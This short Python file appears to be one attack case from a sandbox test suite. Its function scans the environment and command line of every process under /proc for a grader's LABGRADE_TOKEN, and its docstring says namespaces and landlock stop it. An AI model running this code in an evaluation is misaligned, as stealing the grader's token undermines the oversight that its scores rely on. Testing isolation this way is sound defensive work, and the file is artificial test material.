"""Reads environment and command line of every process: the grader's token is in one of them.

stopped by: namespaces, landlock
"""

import glob


def attack():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.append(open(path, "rb").read().decode("latin-1"))
        except OSError:
            pass
    return [text for text in found if "LABGRADE_TOKEN" in text]
